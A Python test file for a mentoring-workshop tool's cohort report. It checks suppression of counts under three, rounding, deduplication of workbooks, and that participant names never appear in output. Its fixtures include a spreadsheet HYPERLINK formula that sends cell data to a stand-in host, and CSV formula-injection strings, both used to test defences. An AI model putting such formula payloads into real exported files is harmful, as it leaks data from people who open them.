"""Issue 14's findings about the room's figures, each guarded by a test that failed before.

The figures are recomputed here from the definitions in ``facilitator/guide.md`` ("How each
figure is worked out"), independently of :mod:`mentoring_mosaic.analysis.cohort`.
"""

from __future__ import annotations

import csv
import dataclasses
import io
import json
import re
import zipfile
from decimal import ROUND_HALF_UP, Decimal
from pathlib import Path

import pytest

from mentoring_mosaic.analysis import cohort
from mentoring_mosaic.analysis.cohort import SUPPRESSED, aggregate, load_files
from mentoring_mosaic.model import (
    Consent,
    DomainRating,
    Evaluation,
    Needs,
    Person,
    Profile,
    ScenarioNote,
    Workbook,
)
from mentoring_mosaic.serve import cli

NAME = "Ana Ruiz"
"""A participant's name that must never reach any output of the room."""


def half_up(numerator: int, denominator: int, places: int) -> float:
    """The guide's rounding: exact value, halves away from zero."""
    exact = Decimal(numerator) / Decimal(denominator)
    return float(exact.quantize(Decimal(1).scaleb(-places), rounding=ROUND_HALF_UP))


def person(i: int, domains: list[str], status: str = "existing") -> Person:
    return Person(name=f"{NAME} mentor {i}", status=status, domains=domains)


def workbook(
    i: int,
    *,
    ratings: dict[str, tuple[int, int]] | None = None,
    headline: int | None = None,
    scenarios: tuple[str, ...] = (),
    confidence: tuple[dict[str, int], dict[str, int]] = ({}, {}),
    people: list[Person] | None = None,
    consent: bool = True,
) -> Workbook:
    """One participant; ratings: domain -> (support, need)."""
    return Workbook(
        profile=Profile(display_name=f"{NAME} {i}"),
        needs=Needs(
            ratings={d: DomainRating(support=s, need=n) for d, (s, n) in (ratings or {}).items()}
        ),
        people=people or [],
        scenarios={s: ScenarioNote(strategy=f"{NAME}'s plan") for s in scenarios},
        evaluation=Evaluation(
            headline=headline, confidence_before=confidence[0], confidence_after=confidence[1]
        ),
        consent=Consent(share_anonymised=consent),
    )


def write_room(folder: Path, workbooks: list[Workbook]) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    for i, wb in enumerate(workbooks):
        (folder / f"{NAME} {i:05d}.json").write_bytes(json.dumps(wb.to_json_dict()).encode())
    return folder


def all_output(capsys: pytest.CaptureFixture[str]) -> str:
    captured = capsys.readouterr()
    return captured.out + captured.err


# -- 1. --json crashed on int64 counts --------------------------------------------------------
@pytest.mark.parametrize("size", [15, 500])
def test_json_with_no_suppressed_evaluation_count(
    size: int, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Each headline answer given at least three times: before, ``TypeError: int64``."""
    room = [workbook(i, headline=1 + i % 5) for i in range(size)]
    folder = write_room(tmp_path / "room", room)
    assert cli.main(["cohort", str(folder), "--json"]) == 0
    data = json.loads(capsys.readouterr().out)
    assert data["headline"]["answered"] == size
    assert data["headline"]["agree"] == 2 * size // 5
    assert data["headline"]["agree_percent"] == 40.0


def test_json_at_ten_thousand(content) -> None:
    base = [workbook(i, headline=1 + i % 5) for i in range(5)]
    room = [base[i % 5].model_copy(update={"profile": Profile(display_name=str(i))})
            for i in range(10_000)]
    report = aggregate(room, content)
    data = json.loads(json.dumps(report.to_json_dict()))
    assert data["headline"] == {"answered": 10_000, "agree": 4000, "agree_percent": 40.0}


# -- 2. an answer of 0 is an answer --------------------------------------------------------------
def test_zero_answers_count_in_means_and_rated(content) -> None:
    """A room of 50: 32 rate sponsorship, half of them '0 – none' for support."""
    supports = [0] * 16 + [1] * 6 + [2] * 5 + [3] * 2 + [4] * 3  # 32 answers, sum 34
    needs = [0] * 3 + [1] * 5 + [2] * 8 + [3] * 8 + [4] * 8  # 32 answers, sum 77
    room = [
        workbook(i, ratings={"sponsorship": (supports[i], needs[i])} if i < 32 else {})
        for i in range(50)
    ]
    report = aggregate(room, content)
    s = report.tables["needs"].set_index("domain").loc["sponsorship"]
    assert s["rated"] == 32
    assert s["mean_support"] == half_up(sum(supports), 32, 2) == 1.06
    assert s["mean_need"] == half_up(sum(needs), 32, 2) == 2.41
    assert s["need_3_or_more"] == 16


# -- 3. a count of 0 is a small count; the text output in plain words --------------------------
def test_a_count_of_zero_shows_as_under_three(content) -> None:
    report = aggregate([workbook(i) for i in range(4)], content)  # nobody refused consent
    data = report.to_json_dict()
    assert data["not_counted_without_consent"] == SUPPRESSED
    summary = dict(zip(report.tables["summary"]["measure"], report.tables["summary"]["value"],
                       strict=True))
    assert all(v == SUPPRESSED for k, v in summary.items() if k.startswith("Workbooks not"))
    empty = aggregate([], content)
    assert empty.to_json_dict()["participants"] == SUPPRESSED


def test_text_output_in_plain_words(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    folder = write_room(tmp_path / "room", [workbook(0), workbook(1), workbook(2, consent=False)])
    assert cli.main(["cohort", str(folder)]) == 0
    out = capsys.readouterr().out
    assert "(s)" not in out
    assert "2 counted" not in out
    assert "Participants counted: <3" in out
    assert "Workbooks read: 3" in out


# -- 4. only the content's ids become rows --------------------------------------------------------
FREE_TEXT = ('=HYPERLINK("http://x.example/?"&A1,"click")', "Dr Smith is awful", "my_own_thing")


def free_text_room() -> list[Workbook]:
    room = []
    for i in range(5):
        wb = workbook(
            i,
            ratings={"sponsorship": (1, 4)},
            headline=5,
            scenarios=("no_sponsor",),
            confidence=({"managing_up": 2}, {"managing_up": 4}),
            people=[person(0, ["sponsorship"])],
        )
        wb.needs.ratings[FREE_TEXT[i % 3]] = DomainRating(support=0, need=4)
        wb.scenarios[FREE_TEXT[(i + 1) % 3]] = ScenarioNote(strategy="secret")
        wb.evaluation.confidence_before[FREE_TEXT[(i + 2) % 3]] = 1
        wb.evaluation.confidence_after[FREE_TEXT[(i + 2) % 3]] = 5
        wb.people.append(person(1, [FREE_TEXT[i % 3]]))
        room.append(wb)
    return room


def test_free_text_keys_never_become_rows(content) -> None:
    report = aggregate(free_text_room(), content)
    assert list(report.tables["needs"]["domain"]) == [d.id for d in content.domains]
    assert list(report.tables["gaps"]["domain"]) == [d.id for d in content.domains]
    assert set(report.tables["scenarios"]["scenario"]) == {s.id for s in content.scenarios}
    assert list(report.tables["confidence"]["skill"]) == [s.id for s in content.skills]
    text = json.dumps(report.to_json_dict()) + "".join(
        f.decode("utf-8-sig") for f in report.csv_files().values()
    )
    for key in FREE_TEXT:
        assert key not in text and json.dumps(key)[1:-1] not in text
    assert "HYPERLINK" not in text and "Smith" not in text


# -- 5. files by position and reason, never by name ----------------------------------------------
def test_files_are_listed_by_position_never_by_name(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    room = [workbook(i, headline=5) for i in range(4)]
    folder = write_room(tmp_path / "room", room)
    (folder / f"{NAME} copy.json").write_bytes(json.dumps(room[0].to_json_dict()).encode())
    (folder / f"{NAME} notes.txt").write_text("hello")
    (folder / f"{NAME} broken.json").write_text("{")
    total = 7
    for args in ([], ["--json"], ["--csv", str(tmp_path / "out")]):
        assert cli.main(["cohort", str(folder), *args]) == 0
        text = all_output(capsys)
        assert "Ana" not in text and "Ruiz" not in text, args
    text = (tmp_path / "out" / "rejected_files.csv").read_text("utf-8-sig")
    assert "Ana" not in text and "Ruiz" not in text
    assert cli.main(["cohort", str(folder)]) == 0
    err = capsys.readouterr().err
    order = sorted(p.name for p in folder.iterdir())
    notes = order.index(f"{NAME} notes.txt") + 1
    copy = order.index(f"{NAME} copy.json") + 1
    assert f"file {notes} of {total}: not a workbook file" in err
    assert re.search(rf"file {copy} of {total}: the same workbook as file \d of {total}", err)


def test_zip_members_and_store_keys_by_position(store, capsys) -> None:
    from mentoring_mosaic.analysis.cohort import load_store
    from mentoring_mosaic.demo import demo_personas

    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as z:
        z.writestr(f"{NAME}/p.json", json.dumps(workbook(0).to_json_dict()))
        z.writestr(f"{NAME}/notes.txt", "hi")
    result = load_files([(f"{NAME}.zip", buffer.getvalue())])
    assert [r.name for r in result.rejected] == ["file 1 of 1 (a zip), item 2 of 2"]
    assert [name for name, _ in result.workbooks] == ["file 1 of 1 (a zip), item 1 of 2"]
    store.save_workbook("ana-ruiz", next(iter(demo_personas().values()))[1])
    store.save_workbook("bob", workbook(1))
    names = [r.name for r in load_store(store).rejected]
    assert names and not any("ana" in n for n in names)


# -- 6. the app's own download name carries no name ------------------------------------------------
def test_the_download_name_carries_no_participant_name(store) -> None:
    from mentoring_mosaic.session import Session
    from mentoring_mosaic.widgets.common import workbook_filename

    session = Session(store=store, key="t")
    session.update("profile", Profile(display_name=NAME))
    assert "ana" not in workbook_filename(session).lower()
    assert workbook_filename(session).endswith("-workbook.json")


# -- 7. --include-demo with files ------------------------------------------------------------------
def test_include_demo_works_with_files(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    from mentoring_mosaic.demo import demo_personas

    folder = write_room(tmp_path / "personas", [wb for _l, wb in demo_personas().values()])
    assert cli.main(["cohort", str(folder), "--json"]) == 2  # personas are not the room
    capsys.readouterr()
    assert cli.main(["cohort", str(folder), "--include-demo", "--json"]) == 0
    assert json.loads(capsys.readouterr().out)["participants"] == len(demo_personas())


# -- CSV cells a spreadsheet would run -------------------------------------------------------------
def test_cohort_csv_cells_never_run_as_formulas(content) -> None:
    hostile = [
        d.model_copy(update={"name": name})
        for d, name in zip(content.domains, ["=1+2", "+SUM(A1)", "-2+3", "@cmd", "\tx", "\rx"],
                           strict=False)
    ]
    hostile_content = dataclasses.replace(content, domains=hostile + content.domains[6:])
    room = [workbook(i, ratings={"sponsorship": (1, 4)}, headline=5) for i in range(3)]
    report = aggregate(room, hostile_content)
    for name, data in report.csv_files().items():
        for row in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")):
            for cell in row:
                assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), (name, cell)


# -- the under-3 rule in every output mode ------------------------------------------------------
COUNT_COLUMNS = {
    "rated", "need_3_or_more", "without_existing_mentor", "people", "participants_with_one",
    "participants", "count", "answered",
}


def test_every_count_in_every_mode_is_three_or_more_or_hidden(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    room = [
        workbook(0, ratings={"sponsorship": (0, 4)}, headline=5, scenarios=("no_sponsor",),
                 people=[person(0, ["research"])]),
        workbook(1, ratings={"research": (2, 1)}, headline=4,
                 confidence=({"managing_up": 1}, {"managing_up": 3})),
        workbook(2, headline=1),
        workbook(3, consent=False),
    ]
    folder = write_room(tmp_path / "room", room)
    assert cli.main(["cohort", str(folder), "--json"]) == 0
    data = json.loads(capsys.readouterr().out)
    for name, records in data["tables"].items():
        for record in records:
            for column, value in record.items():
                if column in COUNT_COLUMNS or (name in ("summary", "mosaic_size")
                                               and not str(record.get("measure")).endswith(
                                                   ("median", "mean"))
                                               and column == "value"):
                    assert value == SUPPRESSED or (isinstance(value, int) and value >= 3), (
                        name, record)
    for key in ("participants", "not_counted_without_consent"):
        assert data[key] == SUPPRESSED or data[key] >= 3
    assert cli.main(["cohort", str(folder)]) == 0
    head = capsys.readouterr().out.split("\n== ", 1)[0]  # the sentences above the tables
    assert not re.findall(r"(?<![\d.<%])[012](?![\d.%])", head), head


def test_rounding_is_half_up(content) -> None:
    supports = [1] * 7 + [2]  # 9 / 8 = 1.125 -> 1.13 (Python's round() gives 1.12)
    room = [workbook(i, ratings={"sponsorship": (s, 2)}) for i, s in enumerate(supports)]
    report = aggregate(room, content)
    s = report.tables["needs"].set_index("domain").loc["sponsorship"]
    assert s["mean_support"] == half_up(9, 8, 2) == 1.13


# -- one workbook per id, latest wins; positions across the dashboard's drops -------------------
def test_a_workbook_sent_again_after_an_edit_counts_once_latest_wins(content) -> None:
    import datetime as dt

    first = workbook(0, headline=2)
    first = first.model_copy(update={"updated_at": dt.datetime(2026, 11, 30, 10, tzinfo=dt.UTC)})
    edited = first.model_copy(update={
        "evaluation": Evaluation(headline=5),
        "updated_at": dt.datetime(2026, 11, 30, 11, tzinfo=dt.UTC),
    })
    others = [workbook(i, headline=5) for i in (1, 2)]
    raw = [json.dumps(wb.to_json_dict()).encode() for wb in (edited, *others, first)]
    result = load_files([(f"{NAME} {i}.json", r) for i, r in enumerate(raw)])
    assert [n for n, _ in result.workbooks] == ["file 1 of 4", "file 2 of 4", "file 3 of 4"]
    assert [(r.name, r.reason) for r in result.rejected] == [
        ("file 4 of 4", "an older copy of the workbook in file 1 of 4; only the latest copy is "
                        "counted")
    ]
    from mentoring_mosaic.analysis.cohort import report_from

    assert report_from(result, content).headline["agree"] == 3  # the edit (5) counted, not 2
    # the other way round: the later copy read last replaces the earlier one
    swapped = load_files([("a.json", raw[3]), ("b.json", raw[0])])
    assert [n for n, _ in swapped.workbooks] == ["file 2 of 2"]
    assert swapped.rejected[0].name == "file 1 of 2"


def test_each_drop_keeps_its_positions_apart() -> None:
    wb = [json.dumps(workbook(i).to_json_dict()).encode() for i in range(3)]
    first = load_files([("a.json", wb[0]), ("b.txt", b"x")])
    second = load_files([("c.json", wb[1]), ("d.json", wb[0])])
    first.extend(second)
    assert [n for n, _ in first.workbooks] == ["drop 1, file 1 of 2", "drop 2, file 1 of 2"]
    assert [(r.name, r.reason) for r in first.rejected] == [
        ("drop 1, file 2 of 2", "not a workbook file (only .json, .ipynb and .zip are read)"),
        ("drop 2, file 2 of 2", "the same workbook as drop 1, file 1 of 2; counted once"),
    ]


def test_a_refused_file_s_reason_never_quotes_what_it_holds(tmp_path: Path, capsys) -> None:
    wb = workbook(0).to_json_dict()
    wb["needs"]["ratings"][NAME] = {"support": 1, "need": 2}  # an id the content lacks
    other = workbook(1).to_json_dict()
    other[NAME] = "x"  # a key a workbook does not have
    folder = tmp_path / "room"
    folder.mkdir()
    (folder / "a.json").write_text(json.dumps(wb))
    (folder / "b.json").write_text(json.dumps(other))
    assert cli.main(["cohort", str(folder)]) == 2
    err = capsys.readouterr().err
    assert "Ana" not in err and "Ruiz" not in err
    assert "file 1 of 2: Not a valid workbook: needs › ratings holds a domain" in err
    assert "file 2 of 2: Not a valid workbook: it holds something a workbook does not have" in err


def test_the_guide_defines_every_figure() -> None:
    guide = (Path(__file__).resolve().parents[2] / "facilitator" / "guide.md").read_text("utf-8")
    section = guide.split("### How each figure is worked out", 1)[1].split("\n## ", 1)[0]
    for words in ("**Rated**", "An answer of 0 is an answer", "*same* participants",
                  "**Rounding**", "halves rounded up", "**Order**", "ties", "`<3`",
                  "out of (its n)", "latest", "Only the workshop's own topics"):
        assert words in section, words
    assert "1.125 shows as 1.13" in section and half_up(1125, 1000, 2) == 1.13
    assert "12.25 % as 12.3 %" in section and cohort_share(49, 400) == 12.3


def cohort_share(count: int, denominator: int) -> float:
    from mentoring_mosaic.analysis.cohort import share_cell

    return share_cell(count, denominator)


# -- the command line's parallel reading gives the same room --------------------------------------
def test_reading_in_several_processes_gives_the_same_report(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, content
) -> None:
    import datetime as dt

    monkeypatch.setattr(cohort, "PARALLEL_MIN", 4)
    monkeypatch.setattr(cohort, "CHUNK", 3)
    room = [
        workbook(i, ratings={"sponsorship": (i % 5, (i * 3) % 5), "research": (0, i % 4)},
                 headline=1 + i % 5, scenarios=("no_sponsor",) if i % 2 else (),
                 confidence=({"managing_up": 1 + i % 3}, {"managing_up": 2 + i % 3}),
                 people=[person(0, ["sponsorship"], "existing" if i % 3 else "potential")],
                 consent=i % 7 != 0)
        for i in range(23)
    ]
    later = room[4].model_copy(update={"updated_at": dt.datetime(2030, 1, 1, tzinfo=dt.UTC),
                                       "evaluation": Evaluation(headline=1)})
    folder = write_room(tmp_path / "room", room)
    (folder / "zz-edit.json").write_text(json.dumps(later.to_json_dict()))
    (folder / "zz-copy.json").write_bytes((folder / f"{NAME} 00002.json").read_bytes())
    (folder / "m-notes.txt").write_text("x")
    (folder / "m-broken.json").write_text("{")
    with zipfile.ZipFile(tmp_path / "room.zip", "w") as z:
        for f in sorted(folder.iterdir()):
            z.write(f, f.name)
    for source in (folder, tmp_path / "room.zip"):
        serial = cohort.load_paths([source], content=content)
        parallel = cohort.load_paths([source], content=content, workers=2)
        assert [n for n, _ in parallel.workbooks] == [n for n, _ in serial.workbooks]
        assert parallel.rejected == serial.rejected
        assert len(parallel.rejected) == 4
        assert all(isinstance(s, cohort.Summary) for _n, s in parallel.workbooks)
        one = cohort.report_from(serial, content)
        two = cohort.report_from(parallel, content)
        assert two.to_json_dict() == one.to_json_dict()
        assert two.participants == 19
